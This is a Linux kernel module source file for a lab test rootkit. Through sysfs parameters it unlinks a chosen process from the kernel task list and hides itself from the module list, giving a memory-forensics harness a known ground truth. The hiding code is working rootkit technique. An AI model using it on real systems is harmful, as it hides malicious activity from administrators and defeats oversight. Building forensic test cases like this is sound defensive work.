// SPDX-License-Identifier: GPL-2.0
/*
 * nd_rootkit: the netdma lab's test rootkit. It hides one process from the kernel's task list and
 * itself from the module list, on command, so that the lab can dump an "infected" guest whose
 * ground truth is known (harness/src/lab/infected.rs). Written for this project; it hides nothing
 * from anyone who looks further than those two lists.
 *
 *   insmod nd_rootkit.ko tasklist_lock_addr=0x... module_mutex_addr=0x...   (from /proc/kallsyms)
 *   echo PID > /sys/module/nd_rootkit/parameters/hide_pid     unlink PID's task from init_task.tasks
 *   echo 1   > /sys/module/nd_rootkit/parameters/hide_module  unlink THIS_MODULE from `modules`
 *   cat /sys/module/nd_rootkit/parameters/status             "pid=PID module=0|1"
 *
 * The two locks that guard those lists are not exported to modules: their addresses are given at
 * load time and checked with sprint_symbol() against their names, so a wrong address is refused
 * (-EINVAL), never written through.
 *
 * Unlinking a node from an RCU-traversed list (for_each_process, the /proc/modules and kallsyms
 * walkers) is done in two steps, each under the list's writer lock:
 *   1. list_del_rcu(): the neighbours skip the node; the node keeps its `next`, so a reader that
 *      stands on it (preempted inside rcu_read_lock()) still finds its way back to the head;
 *   2. after synchronize_rcu() no reader can stand on it any more: INIT_LIST_HEAD() links it to
 *      itself.
 * A node linked to itself is what makes the hidden task's exit harmless: release_task() ->
 * __unhash_process() does list_del_rcu(&p->tasks) on it, which passes the DEBUG_LIST checks
 * (prev->next == entry == next->prev) and writes only the node itself. A plain list_del() would
 * leave LIST_POISON in the node and that exit would hit BUG_ON_DATA_CORRUPTION (Debian sets it).
 * The one unsafe moment is the victim being reaped during the grace period between the two steps
 * (its node then holds LIST_POISON2: the kernel's list check reports it and BUGs); the lab's
 * victim never exits. The module cannot be unloaded once hidden (delete_module finds modules by
 * walking that list); before that, unloading puts a hidden task back at the tail of the list.
 */
#include <linux/kallsyms.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>
#include <linux/string.h>

static unsigned long tasklist_lock_addr;
module_param(tasklist_lock_addr, ulong, 0400);
MODULE_PARM_DESC(tasklist_lock_addr, "address of tasklist_lock (from /proc/kallsyms)");

static unsigned long module_mutex_addr;
module_param(module_mutex_addr, ulong, 0400);
MODULE_PARM_DESC(module_mutex_addr, "address of module_mutex (from /proc/kallsyms)");

/* Serialises the commands; the hidden task (with a reference held) and whether we are hidden. */
static DEFINE_MUTEX(nd_lock);
static struct task_struct *hidden_task;
static pid_t hidden_pid;
static bool module_hidden;

/* Whether `addr` is exactly the start of the kernel symbol `name`. */
static bool symbol_is(unsigned long addr, const char *name)
{
	char buf[KSYM_SYMBOL_LEN];
	size_t n = strlen(name);

	if (!addr)
		return false;
	sprint_symbol(buf, addr);
	return strncmp(buf, name, n) == 0 && strncmp(buf + n, "+0x0/", 5) == 0;
}

static rwlock_t *tasklist(void)
{
	return symbol_is(tasklist_lock_addr, "tasklist_lock") ? (rwlock_t *)tasklist_lock_addr : NULL;
}

static struct mutex *modules_mutex(void)
{
	return symbol_is(module_mutex_addr, "module_mutex") ? (struct mutex *)module_mutex_addr : NULL;
}

static int hide_task(pid_t nr)
{
	rwlock_t *lock = tasklist();
	struct pid *pid;
	struct task_struct *t;
	int err = 0;

	if (!lock)
		return -EINVAL;
	if (hidden_task)
		return -EBUSY;
	pid = find_get_pid(nr);
	t = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
	put_pid(pid);
	if (!t)
		return -ESRCH;

	write_lock_irq(lock);
	/* Only thread-group leaders are on the task list; a live one is linked into it. */
	if (!pid_alive(t) || (t->flags & PF_EXITING) || !thread_group_leader(t) || list_empty(&t->tasks))
		err = -EINVAL;
	else
		list_del_rcu(&t->tasks);
	write_unlock_irq(lock);
	if (err) {
		put_task_struct(t);
		return err;
	}
	synchronize_rcu();
	write_lock_irq(lock);
	INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(lock);
	hidden_task = t; /* the reference is kept: the pointer stays valid */
	hidden_pid = nr;
	pr_info("nd_rootkit: pid %d unlinked from the task list\n", nr);
	return 0;
}

static int hide_self(void)
{
	struct mutex *lock = modules_mutex();

	if (!lock)
		return -EINVAL;
	if (module_hidden)
		return 0;
	/* Said before, while the module is still listed (the message names no one else). */
	pr_info("nd_rootkit: leaving the module list\n");
	mutex_lock(lock);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(lock);
	synchronize_rcu();
	mutex_lock(lock);
	INIT_LIST_HEAD(&THIS_MODULE->list);
	mutex_unlock(lock);
	module_hidden = true;
	return 0;
}

static int set_hide_pid(const char *val, const struct kernel_param *kp)
{
	int nr, err;

	err = kstrtoint(val, 10, &nr);
	if (err || nr <= 0)
		return -EINVAL;
	mutex_lock(&nd_lock);
	err = hide_task(nr);
	mutex_unlock(&nd_lock);
	return err;
}

static int get_hide_pid(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", hidden_pid);
}

static const struct kernel_param_ops hide_pid_ops = { .set = set_hide_pid, .get = get_hide_pid };
module_param_cb(hide_pid, &hide_pid_ops, NULL, 0600);
MODULE_PARM_DESC(hide_pid, "write a pid: unlink that process from the task list (one at most)");

static int set_hide_module(const char *val, const struct kernel_param *kp)
{
	bool on;
	int err = kstrtobool(val, &on);

	if (err)
		return err;
	if (!on)
		return module_hidden ? -EPERM : 0;
	mutex_lock(&nd_lock);
	err = hide_self();
	mutex_unlock(&nd_lock);
	return err;
}

static int get_hide_module(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", module_hidden);
}

static const struct kernel_param_ops hide_module_ops = { .set = set_hide_module, .get = get_hide_module };
module_param_cb(hide_module, &hide_module_ops, NULL, 0600);
MODULE_PARM_DESC(hide_module, "write 1: unlink this module from the module list (for good)");

static int __init nd_rootkit_init(void)
{
	if (!tasklist() || !modules_mutex()) {
		pr_err("nd_rootkit: tasklist_lock_addr and module_mutex_addr must be the addresses of those symbols\n");
		return -EINVAL;
	}
	return 0;
}

static void __exit nd_rootkit_exit(void)
{
	rwlock_t *lock = tasklist();
	struct task_struct *t;

	/* The parameters' sysfs files outlive this function: a command may still be running. */
	mutex_lock(&nd_lock);
	t = hidden_task;
	hidden_task = NULL;
	mutex_unlock(&nd_lock);
	if (!t)
		return;
	write_lock_irq(lock);
	/* Not yet released (__unhash_process clears the pid under this lock): put it back. */
	if (pid_alive(t))
		list_add_tail_rcu(&t->tasks, &init_task.tasks);
	write_unlock_irq(lock);
	put_task_struct(t);
}

module_init(nd_rootkit_init);
module_exit(nd_rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("netdma lab test rootkit: hides one task and itself (DKOM)");
